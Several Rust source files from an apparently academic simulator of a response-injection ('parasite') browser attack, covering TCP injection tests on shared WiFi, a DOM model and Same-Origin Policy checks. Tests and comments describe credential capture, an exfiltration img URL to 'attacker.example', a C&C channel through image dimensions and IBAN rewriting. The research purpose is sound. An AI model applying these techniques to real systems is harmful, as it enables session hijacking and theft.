    fn processing_delay(&self) -> Duration {
        self.delay
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::attacker::{Injector, ResponseInjector};
    use crate::link::MediumKind;

    fn basic_world() -> (Simulator, HostId, HostId, MediumId, MediumId) {
        let mut sim = Simulator::new(7);
        // 2 ms WiFi hop, 40 ms WAN hop: the geometry of the paper's scenario.
        let wifi = sim.add_medium(MediumKind::SharedWireless, 2_000);
        let wan = sim.add_medium(MediumKind::WideArea, 40_000);
        let client = sim.add_host("victim", IpAddr::new(10, 0, 0, 2), wifi);
        let server = sim.add_host("server", IpAddr::new(203, 0, 113, 10), wan);
        sim.listen(server, 80);
        (sim, client, server, wifi, wan)
    }

    #[test]
    fn request_response_round_trip() {
        let (mut sim, client, server, _, _) = basic_world();
        sim.set_service(
            server,
            Box::new(FixedResponder::new(&b"HTTP/1.1 200 OK\r\n\r\nhello"[..], Duration::from_micros(500))),
        );
        let conn = sim.connect(client, server, 80).unwrap();
        sim.send(client, conn, b"GET / HTTP/1.1\r\nHost: example.org\r\n\r\n")
            .unwrap();
        sim.run_until_idle().unwrap();

        // Server saw the request.
        let sconn = sim.connections(server)[0];
        assert!(sim.received(server, sconn).starts_with(b"GET /"));
        // Client got the canned response.
        assert_eq!(sim.received(client, conn), b"HTTP/1.1 200 OK\r\n\r\nhello");
        // Round trip took at least two WAN traversals.
        assert!(sim.now().as_micros() >= 2 * 40_000);
    }

    #[test]
    fn eavesdropper_wins_injection_race_on_shared_wifi() {
        let (mut sim, client, server, wifi, _) = basic_world();
        sim.set_service(
            server,
            Box::new(FixedResponder::new(
                &b"HTTP/1.1 200 OK\r\n\r\ngenuine-script();"[..],
                Duration::from_micros(500),
            )),
        );
        let tap = ResponseInjector::new(
            "master",
            Injector::default(),
            |payload| payload.starts_with(b"GET /my.js"),
            |_req| b"HTTP/1.1 200 OK\r\n\r\nparasite();".to_vec(),
        );
        sim.add_tap(wifi, Box::new(tap));

        let conn = sim.connect(client, server, 80).unwrap();
        sim.send(client, conn, b"GET /my.js HTTP/1.1\r\nHost: somesite.com\r\n\r\n")
            .unwrap();
        sim.run_until_idle().unwrap();

        let body = sim.received(client, conn);
        let text = String::from_utf8_lossy(&body);
        assert!(text.contains("parasite()"), "victim should have accepted the spoofed payload: {text}");
        assert!(!text.contains("genuine-script"), "genuine response must be dropped as duplicate: {text}");
        // The trace shows at least one injected transmission.
        assert!(sim.trace().injected().count() >= 1);
    }

    #[test]
    fn no_injection_on_switched_network() {
        let mut sim = Simulator::new(7);
        let lan = sim.add_medium(MediumKind::Switched, 2_000);
        let wan = sim.add_medium(MediumKind::WideArea, 40_000);
        let client = sim.add_host("victim", IpAddr::new(10, 0, 0, 2), lan);
        let server = sim.add_host("server", IpAddr::new(203, 0, 113, 10), wan);
        sim.listen(server, 80);
        sim.set_service(
            server,
            Box::new(FixedResponder::new(
                &b"HTTP/1.1 200 OK\r\n\r\ngenuine-script();"[..],
                Duration::from_micros(500),
            )),
        );
        let tap = ResponseInjector::new(
            "master",
            Injector::default(),
            |payload| payload.starts_with(b"GET /my.js"),
            |_req| b"HTTP/1.1 200 OK\r\n\r\nparasite();".to_vec(),
        );
        sim.add_tap(lan, Box::new(tap));

        let conn = sim.connect(client, server, 80).unwrap();
        sim.send(client, conn, b"GET /my.js HTTP/1.1\r\n\r\n").unwrap();
        sim.run_until_idle().unwrap();

        let text = String::from_utf8_lossy(&sim.received(client, conn)).to_string();
        assert!(text.contains("genuine-script"));
        assert!(!text.contains("parasite"));
        assert_eq!(sim.trace().injected().count(), 0);
    }

    #[test]
    fn pending_send_is_flushed_after_handshake() {
        let (mut sim, client, server, _, _) = basic_world();
        let conn = sim.connect(client, server, 80).unwrap();
        // Queued before the handshake completes.
        sim.send(client, conn, b"early data").unwrap();
        assert_eq!(sim.pending_send_buffers(), 1);
        sim.run_until_idle().unwrap();
        assert_eq!(sim.pending_send_buffers(), 0);
        let sconn = sim.connections(server)[0];
        assert_eq!(sim.received(server, sconn), b"early data");
        // Flushed, not dropped.
        assert_eq!(sim.trace().summary().pending_chunks_dropped, 0);
    }

    #[test]
    fn connect_to_closed_port_is_reset() {
        let (mut sim, client, server, _, _) = basic_world();
        let conn = sim.connect(client, server, 8080).unwrap();
        sim.run_until_idle().unwrap();
        assert!(!sim.host(client).is_established(conn));
    }

    #[test]
    fn send_on_a_dead_connection_is_rejected_not_buffered() {
        let (mut sim, client, server, _, _) = basic_world();
        let conn = sim.connect(client, server, 8080).unwrap();
        sim.run_until_idle().unwrap();
        // The RST has landed and the queue is idle: a late send must error
        // instead of parking a buffer nothing will ever evict.
        let err = sim.send(client, conn, b"late data").unwrap_err();
        assert!(matches!(err, NetError::InvalidState { .. }));
        assert_eq!(sim.pending_send_buffers(), 0);
    }

    #[test]
    fn reset_connection_evicts_pending_sends() {
        let (mut sim, client, server, _, _) = basic_world();
        // Nobody listens on 8080: the SYN is answered with RST, so the
        // buffered early data can never be flushed and must be evicted.
        let conn = sim.connect(client, server, 8080).unwrap();
        sim.send(client, conn, b"doomed payload").unwrap();
        assert_eq!(sim.pending_send_buffers(), 1);
        sim.run_until_idle().unwrap();
        assert!(!sim.host(client).is_established(conn));
        assert_eq!(sim.pending_send_buffers(), 0, "pending buffer leaked past the RST");
        let summary = sim.trace().summary();
        assert_eq!(summary.pending_chunks_dropped, 1);
        assert_eq!(summary.pending_bytes_dropped, b"doomed payload".len() as u64);
    }

    #[test]
    fn run_for_advances_clock_even_without_events() {
        let (mut sim, _, _, _, _) = basic_world();
        sim.run_for(Duration::from_millis(5)).unwrap();
        assert_eq!(sim.now().as_micros(), 5_000);
    }

    #[test]
    fn trace_records_flow_in_order() {
        let (mut sim, client, server, _, _) = basic_world();
        sim.set_service(
            server,
            Box::new(FixedResponder::new(&b"resp"[..], Duration::from_micros(100))),
        );
        let conn = sim.connect(client, server, 80).unwrap();
        sim.send(client, conn, b"req").unwrap();
        sim.run_until_idle().unwrap();
        let trace = sim.trace();
        assert!(trace.len() >= 5, "handshake + data + ack should be recorded, got {}", trace.len());
        assert!(trace.render().contains("victim"));
        assert!(trace.bytes_between("victim", "server") >= 3);
    }

    #[test]
    fn summary_only_trace_counts_without_retaining() {
        let (mut sim, client, server, _, _) = basic_world();
        sim.set_trace_mode(TraceMode::SummaryOnly);
        sim.set_service(
            server,
            Box::new(FixedResponder::new(&b"resp"[..], Duration::from_micros(100))),
        );
        let conn = sim.connect(client, server, 80).unwrap();
        sim.send(client, conn, b"req").unwrap();
        sim.run_until_idle().unwrap();
        let trace = sim.trace();
        assert!(trace.is_empty());
        assert!(trace.summary().total_events >= 5);
        assert!(trace.summary().payload_bytes >= 7);
        // Nothing retained: every event seen counts as recorder-dropped.
        assert_eq!(trace.recorder_dropped(), trace.summary().total_events);
    }

    #[test]
    fn ring_trace_is_bounded_and_keeps_the_tail() {
        let (mut sim, client, server, _, _) = basic_world();
        sim.set_trace_mode(TraceMode::Ring(3));
        sim.set_service(
            server,
            Box::new(FixedResponder::new(&b"resp"[..], Duration::from_micros(100))),
        );
        let conn = sim.connect(client, server, 80).unwrap();
        sim.send(client, conn, b"req").unwrap();
        sim.run_until_idle().unwrap();
        let trace = sim.trace();
        assert_eq!(trace.len(), 3);
        let total = trace.summary().total_events;
        assert!(total > 3);
        assert_eq!(trace.recorder_dropped(), total - 3);
        // The retained tail is the most recent transmissions.
        let last = trace.events().last().unwrap();
        assert_eq!(last.delivered_at.as_micros(), sim.now().as_micros());
    }

    #[test]
    fn take_trace_keeps_interned_names_valid() {
        let (mut sim, client, server, _, _) = basic_world();
        sim.set_service(
            server,
            Box::new(FixedResponder::new(&b"resp"[..], Duration::from_micros(100))),
        );
        let conn = sim.connect(client, server, 80).unwrap();
        sim.send(client, conn, b"req").unwrap();
        sim.run_until_idle().unwrap();
        let first = sim.take_trace();
        assert!(first.render().contains("victim"));
        // A second exchange records into the fresh trace with the same names.
        sim.send(client, conn, b"again").unwrap();
        sim.run_until_idle().unwrap();
        assert!(sim.trace().render().contains("victim -> server"));
    }

    #[test]
    fn event_budget_defaults_and_is_configurable() {
        let sim = Simulator::new(1);
        assert_eq!(sim.event_budget(), DEFAULT_EVENT_BUDGET);
        let sim = Simulator::new(1).with_event_budget(10_000_000);
        assert_eq!(sim.event_budget(), 10_000_000);
        let mut sim = Simulator::new(1);
        sim.set_event_budget(42);
        assert_eq!(sim.event_budget(), 42);
    }

    #[test]
    fn tiny_event_budget_reports_a_typed_error() {
        let (mut sim, client, server, _, _) = basic_world();
        sim.set_event_budget(2);
        sim.set_service(
            server,
            Box::new(FixedResponder::new(&b"resp"[..], Duration::from_micros(100))),
        );
        // The handshake alone takes more than two events.
        let conn = sim.connect(client, server, 80).unwrap();
        sim.send(client, conn, b"req").unwrap();
        let err = sim.run_until_idle().unwrap_err();
        assert_eq!(err, NetError::EventBudgetExhausted { budget: 2 });
        assert_eq!(sim.events_processed(), 2);
        // The simulator survives the error instead of poisoning the process.
        assert!(err.to_string().contains("event budget exhausted"));
    }

    #[test]
    fn exhausted_run_resumes_without_losing_events() {
        // The budget error leaves the in-flight event queued: raising the
        // budget and resuming completes the exchange as if never interrupted.
        let (mut sim, client, server, _, _) = basic_world();
        sim.set_event_budget(2);
        sim.set_service(
            server,
            Box::new(FixedResponder::new(&b"resp"[..], Duration::from_micros(100))),
        );
        let conn = sim.connect(client, server, 80).unwrap();
        sim.send(client, conn, b"req").unwrap();
        assert!(sim.run_until_idle().is_err());
        sim.set_event_budget(DEFAULT_EVENT_BUDGET);
        sim.run_until_idle().unwrap();
        assert_eq!(sim.received(client, conn), b"resp");
    }

    #[test]
    fn shared_budget_is_debited_across_simulators() {
        let shared = SharedBudget::new(1_000);
        let run_one = |shared: &SharedBudget| {
            let (mut sim, client, server, _, _) = basic_world();
            sim.set_shared_budget(shared.clone());
            let conn = sim.connect(client, server, 80).unwrap();
            sim.send(client, conn, b"req").unwrap();
            sim.run_until_idle().unwrap();
            sim.events_processed()
        };
        let first = run_one(&shared);
        let second = run_one(&shared);
        assert_eq!(shared.total(), 1_000);
        assert_eq!(shared.remaining(), 1_000 - first - second);
        assert!(!shared.exhausted());
    }

    #[test]
    fn exhausted_shared_budget_is_typed_and_refill_resumes_losslessly() {
        // Reference: the same scenario with no budget pressure at all.
        let reference = {
            let (mut sim, client, server, _, _) = basic_world();
            sim.set_service(
                server,
                Box::new(FixedResponder::new(&b"resp"[..], Duration::from_micros(100))),
            );
            let conn = sim.connect(client, server, 80).unwrap();
            sim.send(client, conn, b"req").unwrap();
            sim.run_until_idle().unwrap();
            (sim.trace().render(), *sim.trace().summary(), sim.events_processed())
        };

        let shared = SharedBudget::new(3);
        let (mut sim, client, server, _, _) = basic_world();
        sim.set_shared_budget(shared.clone());
        sim.set_service(
            server,
            Box::new(FixedResponder::new(&b"resp"[..], Duration::from_micros(100))),
        );
        let conn = sim.connect(client, server, 80).unwrap();
        sim.send(client, conn, b"req").unwrap();
        let err = sim.run_until_idle().unwrap_err();
        assert_eq!(err, NetError::EventBudgetExhausted { budget: 3 });
        assert!(shared.exhausted());
        assert_eq!(sim.events_processed(), 3);

        // Refill and resume: the interrupted run replays to a byte-identical
        // trace, because the budget check fires before the pop.
        shared.refill(10_000);
        sim.run_until_idle().unwrap();
        assert_eq!(sim.trace().render(), reference.0);
        assert_eq!(*sim.trace().summary(), reference.1);
        assert_eq!(sim.events_processed(), reference.2);
        assert_eq!(shared.total(), 10_003);
    }

    #[test]
    fn zero_jitter_keeps_delivery_times_identical() {
        let run = |jitter: Option<Duration>| {
            let (mut sim, client, server, wifi, _) = basic_world();
            if let Some(j) = jitter {
                sim.set_medium_jitter(wifi, j);
            }
            sim.set_service(
                server,
                Box::new(FixedResponder::new(&b"resp"[..], Duration::from_micros(100))),
            );
            let conn = sim.connect(client, server, 80).unwrap();
            sim.send(client, conn, b"req").unwrap();
            sim.run_until_idle().unwrap();
            sim.trace().render()
        };
        assert_eq!(run(None), run(Some(Duration::ZERO)));
    }

    #[test]
    fn jittered_runs_are_deterministic_per_seed() {
        let run = |seed: u64| {
            let mut sim = Simulator::new(seed);
            let wifi = sim.add_medium(MediumKind::SharedWireless, 2_000);
            let wan = sim.add_medium(MediumKind::WideArea, 40_000);
            sim.set_medium_jitter(wifi, Duration::from_micros(700));
            sim.set_medium_jitter(wan, Duration::from_micros(4_000));
            let client = sim.add_host("victim", IpAddr::new(10, 0, 0, 2), wifi);
            let server = sim.add_host("server", IpAddr::new(203, 0, 113, 10), wan);
            sim.listen(server, 80);
            sim.set_service(
                server,
                Box::new(FixedResponder::new(&b"resp"[..], Duration::from_micros(100))),
            );
            let conn = sim.connect(client, server, 80).unwrap();
            sim.send(client, conn, b"req").unwrap();
            sim.run_until_idle().unwrap();
            sim.trace().render()
        };
        // Same seed, same workload: byte-identical traces despite jitter.
        assert_eq!(run(11), run(11));
        // A different seed draws different jitter.
        assert_ne!(run(11), run(12));
    }
}
