//! A fast, non-cryptographic hasher for the simulator's internal maps.
//!
//! The simulator's per-event lookups (`IpAddr -> HostId`, the per-host
//! `(port, remote) -> ConnId` demux) hash tiny fixed-size keys millions of
//! times per second. `std`'s default SipHash is DoS-resistant but an order of
//! magnitude slower than needed for keys the simulator itself allocates, so
//! these maps use an FxHash-style multiply-rotate hasher instead (the same
//! family rustc uses for its interner tables). Nothing here is exposed to
//! untrusted input: every key originates from simulation configuration.

use std::collections::HashMap;
use std::hash::{BuildHasherDefault, Hasher};

/// `HashMap` keyed with [`FxHasher`]. Drop-in for `std::collections::HashMap`
/// on simulator-internal keys.
pub type FxHashMap<K, V> = HashMap<K, V, BuildHasherDefault<FxHasher>>;

const SEED: u64 = 0x51_7c_c1_b7_27_22_0a_95;

/// FxHash-style multiply-rotate hasher (not DoS resistant; internal keys
/// only).
#[derive(Debug, Clone, Copy, Default)]
pub struct FxHasher {
    hash: u64,
}

impl FxHasher {
    #[inline]
    fn add(&mut self, word: u64) {
        self.hash = (self.hash.rotate_left(5) ^ word).wrapping_mul(SEED);
    }
}

impl Hasher for FxHasher {
    #[inline]
    fn finish(&self) -> u64 {
        self.hash
    }

    #[inline]
    fn write(&mut self, bytes: &[u8]) {
        for chunk in bytes.chunks(8) {
            let mut word = [0u8; 8];
            word[..chunk.len()].copy_from_slice(chunk);
            self.add(u64::from_le_bytes(word));
        }
    }

    #[inline]
    fn write_u8(&mut self, value: u8) {
        self.add(u64::from(value));
    }

    #[inline]
    fn write_u16(&mut self, value: u16) {
        self.add(u64::from(value));
    }

    #[inline]
    fn write_u32(&mut self, value: u32) {
        self.add(u64::from(value));
    }

    #[inline]
    fn write_u64(&mut self, value: u64) {
        self.add(value);
    }

    #[inline]
    fn write_usize(&mut self, value: usize) {
        self.add(value as u64);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn identical_keys_hash_identically() {
        let mut map: FxHashMap<(u16, u32), u64> = FxHashMap::default();
        for port in 0..100u16 {
            map.insert((port, u32::from(port) * 7), u64::from(port));
        }
        for port in 0..100u16 {
            assert_eq!(map.get(&(port, u32::from(port) * 7)), Some(&u64::from(port)));
        }
        assert_eq!(map.len(), 100);
    }

    #[test]
    fn distinct_small_keys_rarely_collide() {
        use std::hash::Hash;
        let mut seen = std::collections::HashSet::new();
        for value in 0..10_000u64 {
            let mut hasher = FxHasher::default();
            value.hash(&mut hasher);
            seen.insert(hasher.finish());
        }
        // A multiply-rotate hash over distinct u64s should be collision-free
        // at this scale.
        assert_eq!(seen.len(), 10_000);
    }

    #[test]
    fn byte_slices_hash_consistently() {
        let mut first = FxHasher::default();
        first.write(b"somesite.com/my.js");
        let mut second = FxHasher::default();
        second.write(b"somesite.com/my.js");
        assert_eq!(first.finish(), second.finish());
        let mut different = FxHasher::default();
        different.write(b"somesite.com/other");
        assert_ne!(first.finish(), different.finish());
    }
}
