//! A minimal DOM model.
//!
//! Table V's attacks all boil down to what JavaScript can do with the DOM:
//! read input fields and page text (credential and data theft), hook form
//! submit events (login capture), insert elements (fake login overlays,
//! exfiltration `img` tags, propagation `iframe`s), and manipulate existing
//! content (transaction manipulation). The model therefore supports element
//! insertion/query/update, form fields, a submit-event log, and a flag
//! distinguishing script-inserted elements (so experiments can attribute DOM
//! changes to the parasite).

use mp_httpsim::url::Url;
use serde::{Deserialize, Serialize};
use std::collections::BTreeMap;
use std::fmt;

/// Identifier of an element within one document.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
pub struct ElementId(pub u64);

/// A DOM element.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Element {
    /// Identifier.
    pub id: ElementId,
    /// Tag name, lowercase (`input`, `form`, `img`, `iframe`, `script`, ...).
    pub tag: String,
    /// Attributes.
    pub attrs: BTreeMap<String, String>,
    /// Text content.
    pub text: String,
    /// Parent form for input elements, if any.
    pub form: Option<ElementId>,
    /// `true` if a script (rather than the original markup) inserted it.
    pub inserted_by_script: bool,
}

impl Element {
    /// Reads an attribute.
    pub fn attr(&self, name: &str) -> Option<&str> {
        self.attrs.get(name).map(String::as_str)
    }

    /// Returns the `value` attribute (input fields).
    pub fn value(&self) -> &str {
        self.attr("value").unwrap_or("")
    }

    /// Returns the `name` attribute.
    pub fn name(&self) -> &str {
        self.attr("name").unwrap_or("")
    }
}

/// A recorded form submission (the payload a submit-event hook sees).
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct FormSubmission {
    /// The form element.
    pub form: ElementId,
    /// The form's `action` URL, if any.
    pub action: Option<String>,
    /// Field name → value at the time of submission.
    pub fields: BTreeMap<String, String>,
    /// Sequence number (monotone per document).
    pub sequence: u64,
}

/// A single document's DOM.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Dom {
    /// The document URL.
    pub url: Url,
    elements: Vec<Element>,
    submissions: Vec<FormSubmission>,
    next_id: u64,
    next_submission: u64,
}

impl fmt::Display for Dom {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "Dom({}, {} elements)", self.url, self.elements.len())
    }
}

impl Dom {
    /// Creates an empty document for `url`.
    pub fn new(url: Url) -> Self {
        Dom {
            url,
            elements: Vec::new(),
            submissions: Vec::new(),
            next_id: 1,
            next_submission: 1,
        }
    }

    fn insert(&mut self, tag: &str, attrs: &[(&str, &str)], text: &str, by_script: bool) -> ElementId {
        let id = ElementId(self.next_id);
        self.next_id += 1;
        self.elements.push(Element {
            id,
            tag: tag.to_ascii_lowercase(),
            attrs: attrs
                .iter()
                .map(|(k, v)| (k.to_ascii_lowercase(), v.to_string()))
                .collect(),
            text: text.to_string(),
            form: None,
            inserted_by_script: by_script,
        });
        id
    }

    /// Adds an element that was part of the original markup.
    pub fn add_markup_element(&mut self, tag: &str, attrs: &[(&str, &str)], text: &str) -> ElementId {
        self.insert(tag, attrs, text, false)
    }

    /// Adds an element inserted by a script (`document.createElement` +
    /// `appendChild`), e.g. the parasite's exfiltration `img` or propagation
    /// `iframe`.
    pub fn add_script_element(&mut self, tag: &str, attrs: &[(&str, &str)], text: &str) -> ElementId {
        self.insert(tag, attrs, text, true)
    }

    /// Adds an input field belonging to `form`.
    pub fn add_input(&mut self, form: ElementId, name: &str, input_type: &str, value: &str) -> ElementId {
        let id = self.insert("input", &[("name", name), ("type", input_type), ("value", value)], "", false);
        if let Some(element) = self.element_mut(id) {
            element.form = Some(form);
        }
        id
    }

    /// Looks up an element.
    pub fn element(&self, id: ElementId) -> Option<&Element> {
        self.elements.iter().find(|e| e.id == id)
    }

    /// Looks up an element mutably.
    pub fn element_mut(&mut self, id: ElementId) -> Option<&mut Element> {
        self.elements.iter_mut().find(|e| e.id == id)
    }

    /// All elements with the given tag.
    pub fn by_tag(&self, tag: &str) -> Vec<&Element> {
        let tag = tag.to_ascii_lowercase();
        self.elements.iter().filter(|e| e.tag == tag).collect()
    }

    /// First element whose `name` attribute matches.
    pub fn by_name(&self, name: &str) -> Option<&Element> {
        self.elements.iter().find(|e| e.name() == name)
    }

    /// All elements (reading the whole DOM, as the parasite does).
    pub fn all(&self) -> &[Element] {
        &self.elements
    }

    /// Concatenated visible text of the document — "read the financial status
    /// / email communication from the DOM".
    pub fn visible_text(&self) -> String {
        self.elements
            .iter()
            .filter(|e| !e.text.is_empty())
            .map(|e| e.text.as_str())
            .collect::<Vec<_>>()
            .join("\n")
    }

    /// Sets an attribute on an element (e.g. the user typing into a field, or
    /// a script rewriting a transfer's IBAN).
    pub fn set_attr(&mut self, id: ElementId, name: &str, value: &str) -> bool {
        match self.element_mut(id) {
            Some(element) => {
                element.attrs.insert(name.to_ascii_lowercase(), value.to_string());
                true
            }
            None => false,
        }
    }

    /// Sets the text content of an element.
    pub fn set_text(&mut self, id: ElementId, text: &str) -> bool {
        match self.element_mut(id) {
            Some(element) => {
                element.text = text.to_string();
                true
            }
            None => false,
        }
    }

    /// Removes an element, returning `true` if it existed.
    pub fn remove(&mut self, id: ElementId) -> bool {
        let before = self.elements.len();
        self.elements.retain(|e| e.id != id);
        before != self.elements.len()
    }

    /// Fields of a form: name → value for all inputs attached to it.
    pub fn form_fields(&self, form: ElementId) -> BTreeMap<String, String> {
        self.elements
            .iter()
            .filter(|e| e.form == Some(form) && e.tag == "input")
            .map(|e| (e.name().to_string(), e.value().to_string()))
            .collect()
    }

    /// Submits a form: snapshots its fields into the submission log (which is
    /// what a hooked submit listener observes) and returns the submission.
    pub fn submit_form(&mut self, form: ElementId) -> Option<FormSubmission> {
        let action = self.element(form)?.attr("action").map(str::to_string);
        let fields = self.form_fields(form);
        let submission = FormSubmission {
            form,
            action,
            fields,
            sequence: self.next_submission,
        };
        self.next_submission += 1;
        self.submissions.push(submission.clone());
        Some(submission)
    }

    /// The submit-event log (everything a submit hook has seen so far).
    pub fn submissions(&self) -> &[FormSubmission] {
        &self.submissions
    }

    /// Elements inserted by scripts — used by experiments to detect parasite
    /// tampering (fake overlays, exfiltration tags, injected ads).
    pub fn script_inserted(&self) -> Vec<&Element> {
        self.elements.iter().filter(|e| e.inserted_by_script).collect()
    }

    /// Number of elements.
    pub fn len(&self) -> usize {
        self.elements.len()
    }

    /// Returns `true` if the document has no elements.
    pub fn is_empty(&self) -> bool {
        self.elements.is_empty()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn url(s: &str) -> Url {
        Url::parse(s).unwrap()
    }

    fn login_page() -> (Dom, ElementId) {
        let mut dom = Dom::new(url("https://bank.example/login"));
        let form = dom.add_markup_element("form", &[("action", "/do-login"), ("id", "login")], "");
        dom.add_input(form, "username", "text", "");
        dom.add_input(form, "password", "password", "");
        (dom, form)
    }

    #[test]
    fn build_and_query_elements() {
        let (dom, _form) = login_page();
        assert_eq!(dom.by_tag("input").len(), 2);
        assert_eq!(dom.by_tag("form").len(), 1);
        assert!(dom.by_name("password").is_some());
        assert!(dom.by_name("otp").is_none());
        assert_eq!(dom.len(), 3);
    }

    #[test]
    fn typing_and_submitting_records_field_values() {
        let (mut dom, form) = login_page();
        let user = dom.by_name("username").unwrap().id;
        let pass = dom.by_name("password").unwrap().id;
        dom.set_attr(user, "value", "alice");
        dom.set_attr(pass, "value", "hunter2");
        let submission = dom.submit_form(form).unwrap();
        assert_eq!(submission.fields.get("username").unwrap(), "alice");
        assert_eq!(submission.fields.get("password").unwrap(), "hunter2");
        assert_eq!(submission.action.as_deref(), Some("/do-login"));
        assert_eq!(dom.submissions().len(), 1);
    }

    #[test]
    fn script_inserted_elements_are_attributable() {
        let (mut dom, _form) = login_page();
        dom.add_script_element("img", &[("src", "http://attacker.example/exfil?d=abc")], "");
        dom.add_script_element("iframe", &[("src", "https://bank.example/")], "");
        let inserted = dom.script_inserted();
        assert_eq!(inserted.len(), 2);
        assert!(inserted.iter().any(|e| e.tag == "img"));
        assert!(inserted.iter().any(|e| e.tag == "iframe"));
        // Original markup is not flagged.
        assert!(!dom.by_tag("form")[0].inserted_by_script);
    }

    #[test]
    fn dom_manipulation_changes_visible_content() {
        let mut dom = Dom::new(url("https://bank.example/transfer"));
        let balance = dom.add_markup_element("div", &[("id", "balance")], "Balance: 12,345.67 EUR");
        let iban = dom.add_markup_element("input", &[("name", "iban"), ("value", "DE89 3704 0044 0532 0130 00")], "");
        assert!(dom.visible_text().contains("12,345.67"));
        // Transaction manipulation: the parasite rewrites the beneficiary.
        dom.set_attr(iban, "value", "GB29 ATTACKER 0000 0000 0000 00");
        dom.set_text(balance, "Balance: 12,345.67 EUR");
        assert_eq!(dom.by_name("iban").unwrap().value(), "GB29 ATTACKER 0000 0000 0000 00");
    }

    #[test]
    fn remove_deletes_the_element() {
        let (mut dom, form) = login_page();
        assert!(dom.remove(form));
        assert!(!dom.remove(form));
        assert_eq!(dom.by_tag("form").len(), 0);
    }

    #[test]
    fn form_fields_only_include_that_forms_inputs() {
        let mut dom = Dom::new(url("https://shop.example/checkout"));
        let f1 = dom.add_markup_element("form", &[("id", "a")], "");
        let f2 = dom.add_markup_element("form", &[("id", "b")], "");
        dom.add_input(f1, "card", "text", "4111");
        dom.add_input(f2, "search", "text", "shoes");
        assert_eq!(dom.form_fields(f1).len(), 1);
        assert!(dom.form_fields(f1).contains_key("card"));
        assert!(!dom.form_fields(f1).contains_key("search"));
    }
}
