//! Same-Origin Policy checks and the cross-origin image dimension leak.
//!
//! The paper's C&C downstream channel (§VI-C) exists precisely because of the
//! asymmetry modelled here: a script may *load* images from any origin, and
//! although it cannot read the pixels of a cross-origin image, the intrinsic
//! width and height are exposed to it (the page needs them for layout). Each
//! dimension is clamped to 65 535 by the browsers the paper tested, giving the
//! attacker 2 × 16 bits = 4 bytes per image.

use mp_httpsim::url::{Origin, Url};
use serde::{Deserialize, Serialize};

/// Maximum image dimension browsers report; larger values are clamped.
pub const MAX_IMAGE_DIMENSION: u32 = 65_535;

/// Returns `true` if a script running in `script_origin` may read the DOM of
/// a document at `document_origin` (same-origin only).
pub fn can_read_dom(script_origin: &Origin, document_origin: &Origin) -> bool {
    script_origin == document_origin
}

/// Returns `true` if a script running in `script_origin` may issue a request
/// to `target` at all. Under SOP alone the request is always allowed (the
/// *response* may be opaque); CSP is what restricts the request itself.
pub fn can_request(_script_origin: &Origin, _target: &Url) -> bool {
    true
}

/// Returns `true` if the script may read the full response body of a fetch to
/// `target` (same-origin, or not restricted because the resource ended up
/// camouflaged under the document's own origin — the parasite case).
pub fn can_read_response(script_origin: &Origin, target: &Url) -> bool {
    *script_origin == target.origin()
}

/// What a script can see of an image element, depending on where the image
/// came from.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct ImageView {
    /// Reported width in CSS pixels (clamped).
    pub width: u32,
    /// Reported height in CSS pixels (clamped).
    pub height: u32,
    /// Whether pixel data is readable (same-origin or CORS-approved only).
    pub pixels_readable: bool,
}

/// Computes the script-visible view of an image with intrinsic size
/// `(width, height)` loaded by a document of `document_origin`.
pub fn image_view(document_origin: &Origin, image_url: &Url, width: u32, height: u32) -> ImageView {
    let same_origin = *document_origin == image_url.origin();
    ImageView {
        width: width.min(MAX_IMAGE_DIMENSION),
        height: height.min(MAX_IMAGE_DIMENSION),
        pixels_readable: same_origin,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use mp_httpsim::url::Scheme;

    fn origin(s: &str) -> Origin {
        Url::parse(s).unwrap().origin()
    }

    fn url(s: &str) -> Url {
        Url::parse(s).unwrap()
    }

    #[test]
    fn dom_access_requires_same_origin() {
        assert!(can_read_dom(&origin("https://bank.example/a"), &origin("https://bank.example/b")));
        assert!(!can_read_dom(&origin("https://bank.example/"), &origin("https://mail.example/")));
        assert!(!can_read_dom(&origin("http://bank.example/"), &origin("https://bank.example/")));
    }

    #[test]
    fn response_reading_is_origin_bound() {
        let parasite_origin = origin("http://top1.com/");
        assert!(can_read_response(&parasite_origin, &url("http://top1.com/api/data")));
        assert!(!can_read_response(&parasite_origin, &url("http://other.com/api/data")));
        // Requests themselves are not blocked by SOP.
        assert!(can_request(&parasite_origin, &url("http://attacker.example/c2")));
    }

    #[test]
    fn cross_origin_images_expose_dimensions_but_not_pixels() {
        let doc = origin("http://top1.com/");
        let view = image_view(&doc, &url("http://attacker.example/cc/img0.svg"), 31_337, 42);
        assert_eq!(view.width, 31_337);
        assert_eq!(view.height, 42);
        assert!(!view.pixels_readable);

        let own = image_view(&doc, &url("http://top1.com/logo.png"), 100, 50);
        assert!(own.pixels_readable);
    }

    #[test]
    fn dimensions_clamp_at_65535() {
        let doc = origin("http://top1.com/");
        let view = image_view(&doc, &url("http://attacker.example/huge.svg"), 1_000_000, 70_000);
        assert_eq!(view.width, MAX_IMAGE_DIMENSION);
        assert_eq!(view.height, MAX_IMAGE_DIMENSION);
    }

    #[test]
    fn origin_comparison_includes_scheme() {
        let http = Origin::new(Scheme::Http, "bank.example");
        let https = Origin::new(Scheme::Https, "bank.example");
        assert!(!can_read_dom(&http, &https));
    }
}
