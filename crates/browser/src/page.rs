//! Pages and HTML subresource extraction.
//!
//! The browser does not need a full HTML parser: the attack only cares about
//! which subresources a page pulls in (`<script src>`, `<img src>`,
//! `<iframe src>`, stylesheets), what inline scripts it carries (the
//! attacker's cache-eviction payload is one), and any `integrity` attributes
//! (the SRI countermeasure). A small scanner extracts exactly that.

use crate::dom::Dom;
use mp_httpsim::body::ResourceKind;
use mp_httpsim::sri::IntegrityDigest;
use mp_httpsim::url::Url;
use serde::{Deserialize, Serialize};

/// A reference from a document to a subresource.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct SubresourceRef {
    /// Absolute URL of the subresource.
    pub url: Url,
    /// What kind of element referenced it.
    pub kind: SubresourceKind,
